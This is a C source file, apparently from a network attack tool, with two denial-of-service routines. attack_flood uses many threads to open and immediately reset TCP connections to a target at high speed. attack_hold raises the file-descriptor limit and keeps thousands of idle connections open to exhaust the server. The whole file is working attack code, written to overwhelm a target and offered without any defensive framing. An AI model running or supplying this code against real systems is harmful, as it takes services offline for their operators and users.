#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <unistd.h>

static struct target flooded;
static atomic_long rest;
static atomic_long begun;
static atomic_long refused;

/* Connects without waiting and resets at once, as fast as it goes; a proper close
 * would soon run out of ports.
 */
static void *flood(void *nothing)
{
	struct linger reset = { .l_onoff = 1 };

	while (atomic_fetch_sub(&rest, 1) > 0) {
		int fd = socket(flooded.any.sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0);

		if (connect(fd, &flooded.any, flooded.length) == 0 || errno == EINPROGRESS)
			atomic_fetch_add(&begun, 1);
		else
			atomic_fetch_add(&refused, 1);
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
		close(fd);
	}
	return nothing;
}

void attack_flood(struct target target, long connects, long threads)
{
	pthread_t thread[16];

	flooded = target;
	rest = connects;
	if (threads > 16)
		threads = 16;
	for (long i = 0; i < threads; i++)
		pthread_create(&thread[i], NULL, flood, NULL);
	for (long i = 0; i < threads; i++)
		pthread_join(thread[i], NULL);
	printf("%ld begun, %ld refused\n", begun, refused);
}

/* Opens connections and says nothing on them. */
void attack_hold(struct target target, long connections, long seconds)
{
	struct rlimit limit = { .rlim_cur = 65536, .rlim_max = 65536 };
	struct pollfd nothing = { .fd = -1 };

	setrlimit(RLIMIT_NOFILE, &limit);
	for (long i = 0; i < connections; i++) {
		int fd = socket(target.any.sa_family, SOCK_STREAM | SOCK_NONBLOCK, 0);

		if (fd < 0)
			fail("no socket", errno);
		if (connect(fd, &target.any, target.length) == 0 || errno == EINPROGRESS)
			begun++;
		else
			refused++;
	}
	printf("%ld begun, %ld refused\n", begun, refused);
	fprintf(stderr, "holding\n");
	poll(&nothing, 1, (int)seconds * 1000);
}
